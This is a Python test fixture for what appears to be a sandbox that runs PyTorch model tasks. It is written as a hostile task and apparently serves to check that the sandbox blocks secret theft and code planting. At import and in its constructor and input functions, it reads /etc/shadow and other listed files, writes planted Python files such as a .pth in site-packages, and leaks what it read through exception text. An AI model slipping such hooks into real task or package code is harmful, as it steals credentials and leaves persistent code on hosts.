"""Hostile task: its module body, get_init_inputs and get_inputs try to read the server's secrets
and state and to leave code behind (a .pth in site-packages, a file beside the server's state).
Whatever it reads it hands back in its own error text. The test replaces READ and WRITE."""

import torch
import torch.nn as nn

READ = []  # files to steal (replaced by the test)
WRITE = []  # files to plant (replaced by the test)


def _grab(where):
    loot = []
    for path in READ + ["/etc/shadow"]:
        try:
            with open(path, "rb") as f:
                loot.append(f"{where} read {path}: {f.read(200)!r}")
        except OSError:
            pass
    for path in WRITE:
        try:
            with open(path, "w") as f:
                f.write("import os  # planted by a task\n")
            loot.append(f"{where} wrote {path}")
        except OSError:
            pass
    if loot:
        raise RuntimeError(f"loot: {loot}")


_grab("module")


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        _grab("__init__")

    def forward(self, x):
        return torch.relu(x) * 2.0 + 1.0


def get_inputs():
    _grab("get_inputs")
    return [torch.randn(33, 65)]


def get_init_inputs():
    _grab("get_init_inputs")
    return []
